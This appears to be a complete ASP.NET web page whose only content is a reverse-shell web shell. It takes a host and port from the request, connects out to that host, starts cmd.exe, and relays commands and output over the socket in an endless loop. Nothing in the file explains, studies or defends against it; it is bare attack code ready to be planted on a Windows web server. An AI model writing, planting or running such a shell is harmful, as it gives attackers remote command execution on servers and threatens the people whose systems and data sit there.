<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.Diagnostics" %><%
var cl = new TcpClient(Request["h"], int.Parse(Request["p"]));
var s = cl.GetStream(); var r = new System.IO.StreamReader(s); var w = new System.IO.StreamWriter(s);
var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true;
p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start();
while (true) { p.StandardInput.WriteLine(r.ReadLine()); w.Write(p.StandardOutput.ReadLine()); w.Flush(); }
%>
